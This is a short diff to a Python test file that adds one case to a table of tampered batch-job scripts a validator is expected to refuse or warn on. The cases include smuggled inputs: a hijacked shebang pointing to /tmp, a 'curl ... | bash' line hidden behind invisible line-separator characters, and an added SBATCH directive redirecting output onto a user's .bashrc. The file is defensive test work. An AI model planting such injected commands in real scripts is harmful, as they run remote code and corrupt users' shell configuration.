@@ -254,6 +254,7 @@ def test_a_script_edited_into_a_trap_is_refused(rule: str, folder: Path) -> None
         ("#!/usr/bin/env bash", "#!/tmp/bash", REFUSAL),
         ("      --rdzv-backend=c10d", "      --log-dir=x --rdzv-backend=c10d", REFUSAL),
         ("#SBATCH --open-mode=append", "#SBATCH --open-mode=append\n#SBATCH --nice=10", WARNING),
+        ("#SBATCH --open-mode=append", '#SBATCH --open-mode=append\n#SBATCH "--outp" /home/me/.bashrc', REFUSAL),
         ("set -euo pipefail", "# a note\nset -euo pipefail", WARNING),
         ("set -euo pipefail", "set -euo pipefail\u2028#;curl https://example.org/x | bash", REFUSAL),
         ("set -euo pipefail", "set -euo pipefail\f#;curl https://example.org/x | bash", REFUSAL),
